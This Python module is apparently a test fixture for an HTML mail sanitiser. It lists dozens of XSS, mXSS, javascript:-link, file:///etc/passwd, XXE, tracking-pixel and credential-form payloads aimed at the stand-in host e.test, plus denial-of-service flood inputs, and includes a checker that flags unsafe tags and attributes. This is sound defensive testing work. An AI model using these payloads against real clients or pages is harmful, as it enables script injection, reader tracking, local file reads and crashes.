"""HTML made to fetch, to run, to read or to stop whoever shows it, and what a safe page may hold at most."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser

VECTORS = {
    "script": "<script>alert(1)</script>x",
    "script in capitals": "<SCRIPT SRC=http://e.test/x.js></SCRIPT>",
    "script never closed": "<script src=//e.test/x.js",
    "script within script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "handler": "<p onclick=alert(1) onmouseover='x()'>x</p>",
    "handler without blanks": '<img/src="cid:a"/onerror=alert(1)>',
    "handler behind a sign": "<img src=x onerror\t=\talert(1)>",
    "handler of a body": "<body onload=alert(1)>x",
    "link that runs": "<a href='javascript:alert(1)'>x</a>",
    "link with a tab": "<a href='java\tscript:alert(1)'>x</a>",
    "link in entities": "<a href='&#106;avascript:alert(1)'>x</a>",
    "link in entities, open": "<a href=&#x6a&#x61vascript&#58alert(1)>x</a>",
    "link with control characters": "<a href='\x01javascript:alert(1)'>x</a>",
    "link of data": "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "link of a file": "<a href='file:///etc/passwd'>x</a>",
    "link of a share": "<a href='\\\\e.test\\share'>x</a>",
    "link without a scheme": "<a href='//e.test/'>x</a><a href=x.html>y</a>",
    "link to an entry": "<a href='raw:1'>x</a><a href='all:1'>y</a><a href='open:1/0'>z</a>",
    "remote picture": "<img src='http://e.test/pixel.gif' width=1 height=1>",
    "remote picture, safe line": "<img src=https://e.test/pixel.gif>",
    "picture without a scheme": "<img src='//e.test/x.gif'><img src='x.gif'>",
    "picture of a file": "<img src='file:///etc/passwd'><img src='/etc/passwd'>",
    "picture of a share": "<img src='\\\\e.test\\x.gif'><img src='file://e.test/x'>",
    "picture of Qt's own": "<img src='qrc:/x.png'><img src=':/x.png'>",
    "picture of data": "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "picture from many": "<img src=cid:a srcset='http://e.test/2x.gif 2x'>",
    "picture with a wide cid": "<img src='CID:a b'><img src='cid:\"><script>alert(1)</script>'>",
    "dynamic source": "<img dynsrc='http://e.test/x' lowsrc='http://e.test/y'>",
    "ground": "<table background='http://e.test/x.gif'><tr><td background=//e.test/y.gif>a<td>b</table>",
    "ground of the body": "<body background='http://e.test/x.gif'>x",
    "style that fetches": "<p style=\"background:url('http://e.test/x.gif')\">x</p>",
    "style that fetches, escaped": "<p style='background-image:\\75rl(http://e.test/x)'>x</p>",
    "style with a comment": "<p style='background:u/**/rl(file:///etc/passwd)'>x</p>",
    "list with pictures": "<ul style='list-style-image:url(http://e.test/x.gif)'><li>x</ul>",
    "style sheet": "<style>@import 'http://e.test/x.css'; p{background:url(//e.test)}</style>x",
    "style sheet, linked": "<link rel=stylesheet href=http://e.test/x.css>x",
    "style sheet within a picture": "<svg><style>@import url(//e.test)</style></svg>",
    "frame": "<iframe src='http://e.test/'></iframe><frameset><frame src=file:///etc/passwd></frameset>",
    "frame with a page in it": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data='http://e.test/x.swf'></object><embed src=file:///etc/passwd>",
    "applet": "<applet code=Evil.class codebase=http://e.test/></applet>",
    "form": "<form action='http://e.test/'><input name=password><button>Send</button></form>",
    "button that submits": "<button formaction='javascript:alert(1)'>x</button>",
    "refresh": "<meta http-equiv=refresh content='0;url=http://e.test/'>x",
    "base": "<base href='http://e.test/'><a href=x>x</a><img src=y>",
    "video": "<video src=http://e.test/x poster=http://e.test/y><source src=//e.test/z></video>",
    "sound": "<audio autoplay src=http://e.test/x.mp3></audio><bgsound src=http://e.test/x.wav>",
    "drawing": "<svg><image href='http://e.test/x.png'/><script>alert(1)</script></svg>",
    "drawing that runs": "<svg/onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "formula": "<math><mi xlink:href='javascript:alert(1)'>x</mi><maction>y</maction></math>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 x&gt;'>",
    "mutation of a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mutation by noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation by a title": "<title><a title='</title><img src=http://e.test/x>'></a>",
    "mutation by svg": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "mutation by a template": "<template><img src=http://e.test/x onerror=alert(1)></template>",
    "comment": "<!--><img src=x onerror=alert(1)>--><!-- --!><script>alert(1)</script>",
    "comment for one program": "<!--[if mso]><img src='http://e.test/x.gif'><![endif]-->x",
    "declaration": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;<?x ?><![CDATA[<img src=x>]]>",
    "quotes that never end": "<p title='x><img src=http://e.test/x><script>alert(1)</script>",
    "quotes within": "<p title='\"><img src=http://e.test/x onerror=alert(1)>'>x</p>",
    "sign within a quote": "<img alt='>' src='cid:a'><a title='<b' href='https://x.example/'>x</a>",
    "zeros": "<scr\0ipt>alert(1)</scr\0ipt><img s\0rc=http://e.test/x>",
    "twice the same": "<a href='https://good.example/' href='javascript:alert(1)'>x</a>",
    "names with marks": "<o:p>x</o:p><v:imagedata src='http://e.test/x.gif'>",
    "expression": "<p style='width:expression(x);behavior:url(x);-moz-binding:url(x)'>x</p>",
    "hidden text": "<div style='display:none'>ignore</div><p style='mso-hide:all'>secret</p>x",
    "wide and high": "<table><tr><td colspan=999999 rowspan=999999>a<td>b</table><img src=cid:a width=99999>",
    "huge letters": "<p style='font-size:99999px'>x</p><font size=9999>y</font><ol start=999999><li>z</ol>",
}

FLOODS = {
    "tables in tables": "<table><tr><td>a</td><td>" * 30_000,
    "divs": "<div>" * 100_000,
    "quotations": "<blockquote>x" * 50_000,
    "lists": "<ul><li>" * 50_000,
    "letters misnested": "<b><i><font><p>" * 25_000,
    "links in links": "<a href=x><p>" * 25_000,
    "one row": "<table><tr>" + "<td>x" * 50_000,
    "many rows": "<table>" + "<tr><td>a<td>b" * 50_000,
    "small tables": "<table><tr><td>a<td>b</table>" * 20_000,
    "one word": "w" * 2_000_000,
    "one paragraph": "word " * 400_000,
    "attributes": "<p " + "".join(f"a{n}=1 " for n in range(200_000)) + ">x",
    "attributes with signs": "<p " + 'a=">" ' * 200_000 + ">x",
    "quotes opened": "<p a='" * 200_000,
    "both quotes opened": "<p a=\"'" * 200_000,
    "signs": "<" * 1_000_000,
    "comments": "<!--" * 300_000,
    "scripts": "<script>" * 200_000,
    "entities": "&lt;&#x41;&nbsp;" * 100_000,
    "pictures": "<img src=cid:a>" * 50_000,
    "breaks": "<br>" * 200_000,
    "styles": '<p style="color:red;background:blue">x</p>' * 20_000,
    "cells over cells": "<table>" + ("<tr>" + "<td rowspan=50 colspan=24>a" * 4) * 200,
    "cells in cells in cells": "<table><tr><td>a<td>" * 3 + "word " * 200_000,
    "lines": "<ul><li><pre>" + "a\n" * 500_000,
    "indents": "<blockquote><ul><li>" * 9 + "a b " * 200_000,
    "letters both ways": "\u05d0 a 1 " * 200_000,
    "letters above letters": "a" + "\u0301" * 500_000,
    "turned letters": "\u202e\u2067" * 200_000,
}

TAGS = frozenset(
    """p div blockquote center pre h1 h2 h3 h4 h5 h6 ul ol li dl dt dd b strong i em u s strike del ins sub
    sup big small code tt kbd samp var cite q span font a table thead tbody tfoot tr td th br hr
    img""".split()
)
ATTRIBUTES = frozenset(
    """style align valign bgcolor dir href src alt width height color size colspan rowspan border cellpadding
    cellspacing start type""".split()
)


class _Eyes(HTMLParser):
    """Reads a page in its own way, and notes what should not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.objections: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.objections += [f"<{tag}>"] * (tag not in TAGS)
        for name, value in attrs:
            self.objections += [f"{tag} {name}={value!r}"] * (not _is_harmless(tag, name, value or ""))

    def handle_comment(self, data: str) -> None:
        self.objections.append(f"<!--{data[:40]}")

    def handle_decl(self, decl: str) -> None:
        self.objections.append(f"<!{decl[:40]}")

    def handle_pi(self, data: str) -> None:
        self.objections.append(f"<?{data[:40]}")


def _is_harmless(tag: str, name: str, value: str) -> bool:
    if name == "src":
        return tag == "img" and value.startswith("cid:")
    if name == "href":
        return tag == "a" and value.lower().startswith(("http://", "https://", "mailto:"))
    if name == "style":
        return not any(word in value.lower() for word in ("url", "\\", "expression", "@", "/*", "binding"))
    return name in ATTRIBUTES


def objections(page: str) -> list[str]:
    """What in a page could fetch, run or read something."""
    eyes = _Eyes()
    eyes.feed(page)
    eyes.close()
    return eyes.objections


def mails() -> Iterator[tuple[str, bytes]]:
    """Each of them as a mail, by its name."""
    for name, page in {**VECTORS, **FLOODS}.items():
        yield name, mail(page)


def mail(page: str) -> bytes:
    """A mail that has nothing but that page."""
    head = "From: Mal <mal@e.test>\nSubject: x\nDate: Mon, 5 Jan 2026 09:00:00 +0100\n"
    return f"{head}MIME-Version: 1.0\nContent-Type: text/html; charset=utf-8\n\n{page}".encode()
